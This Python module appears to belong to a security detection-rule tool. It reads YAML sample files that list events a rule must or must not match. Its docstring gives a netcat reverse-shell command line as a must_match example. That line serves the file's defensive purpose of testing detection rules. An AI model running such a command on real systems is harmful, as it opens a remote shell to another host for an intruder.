"""Samples of a rule: events that it must match and events that it must not.

For `x.yml` they stand in `x.samples.yml`:

    rule: <id of the rule>
    must_match:
      - Image: /usr/bin/nc
        CommandLine: nc -e /bin/sh 10.0.0.1 4444
    must_not_match:
      - Image: /usr/bin/ls

A value is a text, an integer, true or false, null (no value), or a list of
these. An event has the rule's own log source.
"""

from typing import Final

from tocsin.api.content.v1 import release_pb2 as pb
from tocsin.content.document import Document, Node, ambiguous_errors
from tocsin.errors import ContentError
from tocsin.evaluate.code import Code

SUFFIXES: Final = (".samples.yml", ".samples.yaml")
KEYS: Final = {"must_match": True, "must_not_match": False}


def samples(document: Document, rule: pb.Rule) -> tuple[list[pb.Sample], list[ContentError]]:
    """The samples of a file that belongs to a rule, and everything that is wrong with it."""
    data = document.value
    if not isinstance(data, dict):
        return [], [document.error(Code.INVALID_SAMPLE, "expected a map with rule, must_match, must_not_match")]
    errors = ambiguous_errors(document, ())
    unknown = sorted(data.keys() - KEYS.keys() - {"rule"})
    errors += [document.error(Code.INVALID_SAMPLE, f"unknown key {key!r}", key, rule_id=rule.id) for key in unknown]
    if data.get("rule") != rule.id:
        message = f"samples of rule {data.get('rule')!r} beside rule {rule.id}: `rule:` has to be that id"
        errors.append(document.error(Code.SAMPLE_RULE_UNKNOWN, message, "rule", rule_id=rule.id))
    found: list[pb.Sample] = []
    for key, must_match in KEYS.items():
        events = data.get(key) or []
        if not isinstance(events, list):
            errors.append(document.error(Code.INVALID_SAMPLE, f"{key}: expected a list of events", key))
            continue
        for position, event in enumerate(events):
            try:
                found.append(_sample(document, event, (key, position), rule, must_match))
            except ContentError as error:
                errors.append(error)
    if not found and not errors:
        errors.append(document.error(Code.INVALID_SAMPLE, "neither must_match nor must_not_match has an event"))
    return found, errors


def _sample(document: Document, event: Node, path: tuple[str, int], rule: pb.Rule, must_match: bool) -> pb.Sample:
    if not isinstance(event, dict) or not event:
        raise document.error(Code.INVALID_SAMPLE, "an event is a map of fields", *path, rule_id=rule.id)
    values = []
    for name, value in event.items():
        for one in value if isinstance(value, list) else [value]:
            try:
                values.append(pb.NamedValue(name=name, value=text_of(one)))
            except ValueError as error:
                message = f"field {name}: {error}"
                raise document.error(Code.INVALID_SAMPLE, message, *path, name, rule_id=rule.id) from error
    return pb.Sample(
        rule_id=rule.id,
        must_match=must_match,
        event=pb.NamedEvent(log_source=rule.log_source, values=values),
        origin=f"{document.file}:{document.line(*path)}",
    )


def text_of(value: Node) -> bytes | None:
    """A YAML scalar as the value of a named event. Raises ValueError for anything else."""
    if value is None:
        return None
    if isinstance(value, bool):
        return b"true" if value else b"false"
    if isinstance(value, str | int | float):
        return str(value).encode()
    raise ValueError(f"got {type(value).__name__}, expected a text, an integer, true, false, null or a list of these")
